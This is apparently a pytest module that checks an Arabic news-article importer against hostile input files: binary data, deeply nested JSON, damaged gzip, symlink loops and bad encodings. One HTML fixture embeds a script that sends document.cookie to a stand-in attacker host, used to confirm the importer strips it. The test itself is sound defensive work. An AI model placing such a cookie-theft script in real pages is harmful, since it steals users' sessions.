"""Hostile input: every bad file gives one clear error naming it; nothing else is lost or stopped.

All fixtures are generated here, in tmp_path. Each bad file sits in one folder with good
articles, and the folder is imported as a user would: the good articles must all arrive, each
bad file must produce exactly one error that names it, and no exception may escape.
"""

from __future__ import annotations

import gzip
import json
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from core.ingest import importer, readers
from core.ingest.importer import import_paths
from core.store import count_articles, get_article, open_db

ARABIC = "قتل خمسة مدنيين وأصيب ثلاثة آخرون في قصف على سوق شعبي في مدينة تعز يوم الاثنين."
Maker = Callable[[Path], None]


def _good(folder: Path) -> dict[str, str]:
    """Three ordinary articles (txt, jsonl, json) the hostile files sit beside."""
    texts = {
        "good1.txt": "خبر أول\n" + ARABIC,
        "good2.jsonl": "اشتباكات في مأرب بين الجيش والحوثيين أسفرت عن مقتل عشرة مسلحين.",
        "good3.json": "وصلت قافلة إغاثة إلى عدن تحمل مواد غذائية وطبية للنازحين.",
    }
    (folder / "good1.txt").write_text(texts["good1.txt"], encoding="utf-8")
    (folder / "good2.jsonl").write_text(json.dumps({"title": "مأرب", "text": texts["good2.jsonl"]}) + "\n", encoding="utf-8")
    (folder / "good3.json").write_text(json.dumps({"title": "عدن", "content": texts["good3.json"]}), encoding="utf-8")
    return texts


def _binary(p: Path) -> None:
    p.write_bytes(bytes(range(256)) * 40 + os.urandom(4000))


def _png_named_txt(p: Path) -> None:
    p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(3000))


def _empty(p: Path) -> None:
    p.write_bytes(b"")


def _blank(p: Path) -> None:
    p.write_bytes(b" \n\t\r\n  ")


def _big_text(p: Path) -> None:
    """50 MB of real Arabic text in one .txt file."""
    chunk = ((ARABIC + "\n") * 2000).encode("utf-8")
    with p.open("wb") as f:
        written = 0
        while written < 50 * 1024 * 1024:
            f.write(chunk)
            written += len(chunk)


def _big_line(p: Path) -> None:
    """A 50 MB JSONL line (one 'article' of 50 MB)."""
    with p.open("wb") as f:
        f.write(b'{"title": "x", "text": "')
        chunk = (ARABIC * 1000).encode("utf-8")
        for _ in range(50 * 1024 * 1024 // len(chunk) + 1):
            f.write(chunk)
        f.write(b'"}\n')


def _nested_json(p: Path) -> None:
    p.write_bytes(b"[" * 100_000 + b"]" * 100_000)


def _nested_unclosed_json(p: Path) -> None:
    p.write_bytes(b"[" * 100_000)


def _nested_object_json(p: Path) -> None:
    p.write_bytes(b'{"a":' * 100_000 + b"1" + b"}" * 100_000)


def _truncated_json(p: Path) -> None:
    p.write_text('[{"title": "x", "text": "' + ARABIC, encoding="utf-8")


def _json_scalar(p: Path) -> None:
    p.write_text("42", encoding="utf-8")


def _damaged_gzip(p: Path) -> None:
    data = gzip.compress(((ARABIC + "\n") * 500).encode("utf-8"))
    p.write_bytes(data[: len(data) // 2])


def _not_gzip(p: Path) -> None:
    p.write_bytes(b"this is not gzip at all")


def _binary_html(p: Path) -> None:
    p.write_bytes(os.urandom(6000))


def _script_only_html(p: Path) -> None:
    p.write_text(
        "<html><head><script>var a = 1;</script></head><body>"
        '<iframe src="https://example.com/"></iframe><img src="https://example.com/x.png"></body></html>',
        encoding="utf-8",
    )


def _file_link_loop(p: Path) -> None:
    other = p.with_name("loop_b.txt")
    os.symlink(other, p)
    os.symlink(p, other)


BAD_FILES: dict[str, Maker] = {
    "binary.txt": _binary,
    "image.txt": _png_named_txt,
    "empty.txt": _empty,
    "blank.json": _blank,
    "big.txt": _big_text,
    "nested.json": _nested_json,
    "nested_unclosed.json": _nested_unclosed_json,
    "nested_object.json": _nested_object_json,
    "truncated.json": _truncated_json,
    "scalar.json": _json_scalar,
    "damaged.txt.gz": _damaged_gzip,
    "fake.jsonl.gz": _not_gzip,
    "binary.html": _binary_html,
    "scripts_only.html": _script_only_html,
}


def _import_folder(folder: Path, **kwargs: object) -> tuple[object, object]:
    db = open_db(folder.parent / "lib.db")
    report = import_paths(db, [folder], analyze=False, **kwargs)  # type: ignore[arg-type]
    return db, report


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_each_bad_file_gives_one_error_naming_it(tmp_path: Path, name: str, no_network: list[str]) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    good = _good(folder)
    BAD_FILES[name](folder / name)
    db, report = _import_folder(folder)
    assert report.added == len(good), report.errors  # nothing else lost
    messages = [str(e) for e in report.errors]
    assert len(messages) == 1, messages
    assert messages[0].startswith(str(folder / name)), messages
    assert len(messages[0]) < 300  # one readable line, not a traceback
    assert "Traceback" not in messages[0]


def test_all_hostile_files_at_once(tmp_path: Path, no_network: list[str]) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    good = _good(folder)
    for name, make in BAD_FILES.items():
        make(folder / name)
    _file_link_loop(folder / "loop_a.txt")
    (folder / "sub").mkdir()
    (folder / "sub" / "back").symlink_to(folder)  # a folder loop
    (folder / "sub" / "deeper.txt").write_text("تقرير\n" + ARABIC.replace("تعز", "إب"), encoding="utf-8")
    t0 = time.perf_counter()
    db, report = _import_folder(folder)
    assert time.perf_counter() - t0 < 60
    assert report.added == len(good) + 1
    named = sorted(Path(e.origin).name for e in report.errors)
    assert named == sorted([*BAD_FILES, "loop_a.txt", "loop_b.txt"])
    assert "symbolic link loop" in str(next(e for e in report.errors if e.origin.endswith("loop_a.txt")))


def test_malformed_jsonl_lines_cost_one_line_each(tmp_path: Path) -> None:
    path = tmp_path / "mixed.jsonl"
    good = [{"title": f"{i}", "text": f"{ARABIC} رقم {i}"} for i in range(3)]
    lines = [
        json.dumps(good[0], ensure_ascii=False).encode(),
        b'{"title": "no closing brace", "text": "x"',
        b"[" * 100_000,
        b"\xff\xfe\x00\x01 not text \x00",
        b"[1, 2, 3]",
        b'{"title": "no text"}',
        b"",
        json.dumps(good[1], ensure_ascii=False).encode(),
        b"NaN",
        b'{"text": "' + ARABIC.encode() + b"\xd8" + b'"}',  # a stray byte in UTF-8 text
        json.dumps(good[2], ensure_ascii=False).encode(),
    ]
    path.write_bytes(b"\n".join(lines) + b"\n")
    db = open_db(memory=True)
    report = import_paths(db, [path], analyze=False)
    assert report.added == 4
    assert sorted(e.line for e in report.errors) == [2, 3, 4, 5, 6, 9]
    assert get_article(db, report.added_ids[2])["text"] == ARABIC + "\ufffd"  # damage shown, not dropped
    for error in report.errors:
        assert str(error).startswith(f"{path}, line {error.line}: ")
    assert "nested too deeply" in str(next(e for e in report.errors if e.line == 3))


@pytest.mark.parametrize(
    ("encode", "expected"),
    [
        (lambda t: t.encode("cp1256"), lambda t: t),
        (lambda t: t.encode("utf-16-le"), lambda t: t),
        (lambda t: t.encode("utf-16-be"), lambda t: t),
        (lambda t: t.encode("utf-8")[:-1], lambda t: t[:-1] + "\ufffd"),  # cut inside the last letter
    ],
    ids=["cp1256", "utf16le-no-bom", "utf16be-no-bom", "truncated-utf8"],
)
def test_legacy_and_damaged_encodings_import_readably(tmp_path: Path, encode, expected) -> None:
    text = "عاجل 2015\n" + ARABIC + "\nوأفاد مصدر محلي بأن القصف استمر ساعتين"
    path = tmp_path / "article.txt"
    path.write_bytes(encode(text))
    db = open_db(memory=True)
    report = import_paths(db, [path], analyze=False)
    assert report.errors == [] and report.added == 1
    assert get_article(db, report.added_ids[0])["text"] == expected(text)


def test_a_50mb_jsonl_line_is_refused_and_the_next_line_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.jsonl"
    _big_line(path)
    with path.open("ab") as f:
        f.write(json.dumps({"title": "بعد", "text": ARABIC}, ensure_ascii=False).encode() + b"\n")
    db = open_db(memory=True)
    report = import_paths(db, [path], analyze=False)
    assert report.added == 1
    assert [str(e) for e in report.errors] == [f"{path}, line 1: line too long (over 20 MB)"]


def test_html_with_scripts_iframes_and_remote_images(tmp_path: Path, no_network: list[str]) -> None:
    page = tmp_path / "page.html"
    page.write_text(
        """<!doctype html><html><head><meta charset="utf-8"><title>قصف في تعز</title>
        <script src="https://tracker.example.com/t.js"></script>
        <script>document.write('<img src="https://evil.example.com/' + document.cookie + '">');
        fetch('https://evil.example.com/beacon');</script>
        <link rel="stylesheet" href="https://cdn.example.com/s.css">
        <style>body { background: url(https://cdn.example.com/bg.png); }</style></head>
        <body><iframe src="https://ads.example.com/frame"></iframe>
        <article><h1>قصف في تعز</h1><p>"""
        + ARABIC
        + """</p><img src="https://images.example.com/photo.jpg" alt="صورة">
        <p>وقالت مصادر طبية إن المستشفى استقبل عشرات الجرحى خلال الساعات الماضية.</p></article>
        <object data="https://example.com/x.swf"></object></body></html>""",
        encoding="utf-8",
    )
    db = open_db(memory=True)
    report = import_paths(db, [page], analyze=True)
    assert report.errors == [] and report.added == 1
    article = get_article(db, report.added_ids[0])
    assert "قصف على سوق شعبي" in article["text"]
    for leaked in ("document.cookie", "fetch(", "example.com", "background"):
        assert leaked not in article["text"]
    assert article["title"] == "قصف في تعز"


def test_a_file_that_vanishes_mid_import(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading a.txt deletes b.txt, already listed in the folder: b is one error, c still comes."""
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a", "b", "c"):
        (folder / f"{name}.txt").write_text(f"{name}\n{ARABIC} {name}", encoding="utf-8")
    real = readers._READERS[".txt"]

    def reader_that_deletes_the_next_file(path: Path, compressed: bool):
        if path.name == "a.txt":
            (folder / "b.txt").unlink()
        yield from real(path, compressed)

    monkeypatch.setitem(readers._READERS, ".txt", reader_that_deletes_the_next_file)
    db = open_db(memory=True)
    report = import_paths(db, [folder], analyze=False)
    assert report.added == 2
    assert [str(e) for e in report.errors] == [
        f"{folder / 'b.txt'}: cannot read file (the file disappeared before it could be read)"
    ]


def test_a_reader_bug_costs_one_file_not_the_import(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.txt").write_text(ARABIC, encoding="utf-8")
    (tmp_path / "b.json").write_text(json.dumps({"text": ARABIC + " ب"}), encoding="utf-8")

    def broken(path: Path, compressed: bool):
        raise KeyError("unexpected")
        yield  # pragma: no cover

    monkeypatch.setitem(readers._READERS, ".txt", broken)
    db = open_db(memory=True)
    report = import_paths(db, [tmp_path / "a.txt", tmp_path / "b.json"], analyze=False)
    assert report.added == 1
    assert [str(e) for e in report.errors] == [f"{tmp_path / 'a.txt'}: could not be read (KeyError: 'unexpected')"]


def test_an_overlong_article_is_stored_but_not_analysed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importer, "too_long_to_analyse", lambda text: "too long" if len(text) > 500 else None)
    (tmp_path / "long.txt").write_text(ARABIC * 10, encoding="utf-8")
    (tmp_path / "short.txt").write_text(ARABIC, encoding="utf-8")
    db = open_db(memory=True)
    report = import_paths(db, [tmp_path / "long.txt", tmp_path / "short.txt"], analyze=True)
    assert report.added == 2 and report.analyzed == 1
    assert [str(e) for e in report.errors] == [f"{tmp_path / 'long.txt'}: stored, but not analysed: too long"]
    assert count_articles(db) == 2
